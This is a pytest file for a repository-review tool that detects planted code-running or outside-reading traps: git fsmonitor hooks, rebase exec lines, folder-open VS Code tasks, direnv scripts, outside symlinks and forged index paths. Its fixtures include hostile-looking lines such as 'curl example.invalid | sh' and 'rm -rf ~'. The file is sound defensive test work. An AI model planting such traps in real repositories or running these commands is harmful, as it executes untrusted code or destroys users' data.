"""One table, three cases per detector: found, not found, and already there at start.

*found*: the planted thing gives exactly one finding of its kind, at its path, with
its severity and a summary naming what would run or be read. *not found*: a clean
repository or a benign variant gives none. *pre-existing*: what was there when the
review baseline was taken is not new; changing its content makes it new again.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from typing import get_args

import pytest

from cloister_cli.review import FindingKind, Severity, new_findings
from tests.cli.review.conftest import Project, of_kind
from tests.git_support import blob, forge_index

Step = Callable[[Project], object]


@dataclass(frozen=True)
class Case:
    kind: FindingKind
    path: str  # may hold "{outside}"
    severity: Severity
    says: str  # in the summary; may hold "{outside}"
    plant: Step
    benign: Step  # a clean or harmless variant: no finding of the kind
    change: Step  # the planted thing with other content: a new fingerprint

    def expand(self, text: str, project: Project) -> str:
        return text.format(outside=project.outside)


def _rebase_todo(command: str) -> Step:
    def plant(project: Project) -> None:
        project.write(".git/rebase-merge/git-rebase-todo", f"pick 0000000 first\nexec {command}\n")
        project.write(".git/rebase-merge/head-name", "refs/heads/main\n")

    return plant


def _tasks(command: str, run_on: str | None) -> Step:
    options = f'"runOptions": {{"runOn": "{run_on}"}}, // run it\n' if run_on else ""
    text = (
        "// VS Code tasks, JSONC\n{\n"
        '  "version": "2.0.0",\n'
        '  "tasks": [\n'
        "    {\n"
        '      "label": "watch /* not a comment */",\n'
        f'      "command": "{command}",\n'
        f"      {options}"
        '      "type": "shell",\n'
        "    },\n"
        "  ],\n"
        "}\n"
    )
    return lambda project: project.write(".vscode/tasks.json", text)


def _gitlink(project: Project) -> None:
    project.nested("sub")
    project.git("add", "sub")


def _gitlink_moved(project: Project) -> None:
    (project.root / "sub" / "new").write_text("more\n", encoding="utf-8")
    project.git("-C", "sub", "add", "new")
    project.git("-C", "sub", "commit", "-q", "-m", "second")
    project.git("add", "sub")


def _gitlink_listed(project: Project) -> None:
    _gitlink(project)
    project.write(".gitmodules", '[submodule "sub"]\n\tpath = sub\n\turl = ./sub\n')


def _fifo(project: Project) -> None:
    os.mkfifo(project.root / ".git" / "FETCH_HEAD")


def _forged_index(*paths: str) -> Step:
    def plant(project: Project) -> None:
        readme = blob(project.root, "hello\n")
        forge_index(project.root, [(0o100644, readme, path) for path in ("README", *paths)])

    return plant


def _outside_file(project: Project, name: str) -> str:
    path = project.outside / name
    path.write_text("the human's file\n", encoding="utf-8")
    return str(path)


CASES: dict[str, Case] = {
    "nested-repository": Case(
        "nested-repository",
        "sub/",
        "runs-code",
        "git runs `touch marker` (core.fsmonitor) whenever you run git status",
        plant=lambda p: p.nested("sub", ("core.fsmonitor", "touch marker")),
        benign=lambda p: p.nested("sub", ("user.name", "Agent"), ("core.fsmonitor", "false")),
        change=lambda p: p.git("-C", "sub", "config", "core.fsmonitor", "touch other"),
    ),
    "gitlink-without-gitmodules": Case(
        "gitlink-without-gitmodules",
        "sub/",
        "runs-code",
        "enter the repository at sub/",
        plant=_gitlink,
        benign=_gitlink_listed,
        change=_gitlink_moved,
    ),
    "git-dir-link": Case(
        "git-dir-link",
        ".git/FETCH_HEAD",
        "reads-outside",
        "git reads and may write that file instead: {outside}/secret",
        plant=lambda p: p.link(".git/FETCH_HEAD", _outside_file(p, "secret")),
        benign=lambda p: p.write(".git/FETCH_HEAD", "0000 branch 'main'\n"),
        change=lambda p: p.link(".git/FETCH_HEAD", _outside_file(p, "other")),
    ),
    "alternates": Case(
        "alternates",
        ".git/objects/info/alternates",
        "reads-outside",
        "git reads objects from {outside}/objects",
        plant=lambda p: p.write(".git/objects/info/alternates", f"{p.outside}/objects\n"),
        benign=lambda p: p.write(".git/objects/info/packs", "P pack-0.pack\n"),
        change=lambda p: p.write(".git/objects/info/alternates", "/srv/objects\n"),
    ),
    "git-info-file": Case(
        "git-info-file",
        ".git/info/exclude",
        "review",
        "hides the files matching its patterns from git status and git add: `secret-*`",
        plant=lambda p: p.write(".git/info/exclude", "# mine\nsecret-*\n"),
        benign=lambda p: p.write(".git/info/exclude", "# only comments\n\n"),
        change=lambda p: p.write(".git/info/exclude", "# mine\nsecret-*\n*.sh\n"),
    ),
    "attributes-driver": Case(
        "attributes-driver",
        "docs/.gitattributes",
        "review",
        "your config defines for filter `evil` on `*.bin` files",
        plant=lambda p: p.write("docs/.gitattributes", "* text=auto\n*.bin filter=evil -text\n"),
        benign=lambda p: p.write("docs/.gitattributes", "* text=auto\n*.png binary -diff\n"),
        change=lambda p: p.write("docs/.gitattributes", "*.bin filter=evil diff=evil\n"),
    ),
    "envrc": Case(
        "envrc",
        "sub/.envrc",
        "runs-code",
        "direnv runs this script (`curl example.invalid | sh`…) when you enter sub/",
        plant=lambda p: p.write("sub/.envrc", "# setup\ncurl example.invalid | sh\n"),
        benign=lambda p: p.write("sub/.env", "FOO=1\n"),
        change=lambda p: p.write("sub/.envrc", "# setup\nrm -rf ~\n"),
    ),
    "vscode-task": Case(
        "vscode-task",
        ".vscode/tasks.json",
        "runs-code",
        "VS Code runs `make watch` when you open the folder",
        plant=_tasks("make watch", "folderOpen"),
        benign=_tasks("make watch", None),
        change=_tasks("make exfiltrate", "folderOpen"),
    ),
    "hook-config": Case(
        "hook-config",
        ".pre-commit-config.yaml",
        "runs-code",
        "pre-commit runs the hooks this file lists when you commit",
        plant=lambda p: p.write(".pre-commit-config.yaml", "repos: []\n"),
        benign=lambda p: p.write("docs/.pre-commit-config.yaml", "repos: []\n"),
        change=lambda p: p.write(".pre-commit-config.yaml", "repos: [{repo: local}]\n"),
    ),
    "gitmodules": Case(
        "gitmodules",
        ".gitmodules",
        "review",
        "`git submodule update` clones from these URLs: https://example.invalid/lib.git",
        plant=lambda p: p.write(
            ".gitmodules",
            '[submodule "lib"]\n\tpath = lib\n\turl = https://example.invalid/lib.git\n',
        ),
        benign=lambda p: (p.root / ".gitmodules").mkdir(),  # Cloister's placeholder
        change=lambda p: p.write(
            ".gitmodules", '[submodule "lib"]\n\tpath = lib\n\turl = https://evil.invalid/x.git\n'
        ),
    ),
    "sequencer": Case(
        "sequencer",
        ".git/rebase-merge",
        "runs-code",
        "`git rebase --continue` runs `touch pwned`",
        plant=_rebase_todo("touch pwned"),
        benign=lambda p: p.write(".git/ORIG_HEAD", "0" * 40 + "\n"),
        change=_rebase_todo("touch pwned-again"),
    ),
    "outside-symlink": Case(
        "outside-symlink",
        "docs/notes",
        "reads-outside",
        "an editor or a hostexec command that opens it reads {outside}/notes",
        plant=lambda p: p.link("docs/notes", _outside_file(p, "notes")),
        benign=lambda p: p.link("docs/notes", "../README"),
        change=lambda p: p.link("docs/notes", _outside_file(p, "other-notes")),
    ),
    "index-entry": Case(
        "index-entry",
        ".git/index",
        "runs-code",
        "the index names 1 path(s) outside the work tree or in .git ('../secret'",
        plant=_forged_index("../secret"),
        benign=_forged_index("docs/secret"),
        change=_forged_index("../other"),
    ),
}


def test_the_table_covers_every_kind() -> None:
    # "replaced" compares with the session record, not with the tree: cloister_cli.sessions.
    assert set(CASES) == set(get_args(FindingKind)) - {"replaced"}


@pytest.mark.parametrize("name", list(CASES))
def test_found(project: Project, name: str) -> None:
    case = CASES[name]
    case.plant(project)
    found = of_kind(project.review(), case.kind)
    assert [(item.kind, item.path, item.severity) for item in found] == [
        (case.kind, case.expand(case.path, project), case.severity)
    ]
    assert case.expand(case.says, project) in found[0].summary
    assert "\n" not in found[0].summary


@pytest.mark.parametrize("name", list(CASES))
def test_not_found(project: Project, name: str) -> None:
    case = CASES[name]
    assert of_kind(project.review(), case.kind) == []  # a clean repository
    case.benign(project)
    assert of_kind(project.review(), case.kind) == []


@pytest.mark.parametrize("name", list(CASES))
def test_pre_existing(project: Project, name: str) -> None:
    case = CASES[name]
    case.plant(project)
    baseline = {item.fingerprint for item in project.review()}
    assert new_findings(project.review(), baseline) == []  # the same thing: not new
    case.change(project)
    again = new_findings(project.review(), baseline)
    assert [item.kind for item in again if item.kind == case.kind] == [case.kind]
